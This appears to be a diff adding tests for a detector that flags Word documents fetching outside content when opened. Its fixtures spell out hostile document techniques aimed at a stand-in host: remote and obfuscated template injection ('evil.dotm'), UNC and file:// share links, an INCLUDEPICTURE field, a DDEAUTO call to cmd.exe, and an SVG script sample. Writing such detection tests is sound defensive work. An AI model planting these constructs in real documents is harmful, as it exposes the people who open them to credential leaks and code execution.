@@ -9,6 +9,7 @@ import { type Parts, png, zipOf } from '../../../test/sample-files.js';
 import { DocumentWorkers } from './document-workers.js';
 import { fillDocx, inspectDocx, neededInDocx } from './fill-docx.js';
 import { fillXlsx, inspectXlsx } from './fill-xlsx.js';
+import { findOutside } from './find-outside.js';
 import { importDocx } from './import-docx.js';
 import { type FactValues, MissingFacts, vocabularyOf } from './merge-fields.js';
 import { parseText } from './parse-text.js';
@@ -257,6 +258,45 @@ function made({ body, relations = '', parts = {} }: Made): Promise<Buffer> {
 const to = (type: string, target: string, mode = ' TargetMode="External"') =>
   `<Relationship Id="x1" Type="${OFFICE}/${type}" Target="${target}"${mode}/>`;
 const SVG = '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>';
+
+const settings = (target: string): Parts => ({
+  'word/_rels/settings.xml.rels': `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="t" Type="${OFFICE}/attachedTemplate" Target="${target}" TargetMode="External"/></Relationships>`,
+});
+
+describe('A form', () => {
+  it.each<[string, Made]>([
+    ['a picture', { body: picture('r:link="x1"'), relations: to('image', 'https://spy.example/a.png') }],
+    ['a picture on a share', { body: '', relations: to('image', '\\\\spy.example\\a.png') }],
+    ['a picture on a share by its address', { body: '', relations: to('image', 'file://spy.example/a.png') }],
+    ['a template', { body: '', parts: settings('https://spy.example/evil.dotm') }],
+    [
+      'a template whose address is hidden',
+      { body: '', parts: settings('&#104;ttps://spy.example/evil.dotm') },
+    ],
+    ['a page', { body: '', relations: to('frame', 'http://spy.example/') }],
+    ['by a field', { body: field(' INCLUDEPICTURE "https://spy.example/a.png"') }],
+    ['by a program', { body: field('DDEAUTO c:\\windows\\system32\\cmd.exe') }],
+  ])('that fetches something when it is opened is told: %s', async (_, form) => {
+    expect(findOutside(await made(form)).map(({ place }) => place)).toEqual(['in the file']);
+  });
+
+  it('may link to pages, and know where its template was', async () => {
+    const form = { body: link('x1'), relations: to('hyperlink', 'https://www.hse.gov.uk/') };
+    expect(findOutside(await made(form))).toEqual([]);
+    const parts = settings('file:///C:/Users/me/AppData/Roaming/Microsoft/Templates/Normal.dotm');
+    expect(findOutside(await made({ body: '', parts }))).toEqual([]);
+  });
+
+  it('with a list within a list would have no end, and is told', async () => {
+    const { problems } = inspectDocx(
+      await made({ body: text('{#sites}{#sites}x{/sites}{/sites}') }),
+      VOCABULARY,
+    );
+    expect(problems.map(({ message }) => message)).toEqual([
+      '{#sites} is a list within a list. Close the first one before it.',
+    ]);
+  });
+});
 
 /** Documents that would run or fetch something, by what they try; HERE is an address that must not be asked. */
 const HOSTILE: Record<string, Made> = {
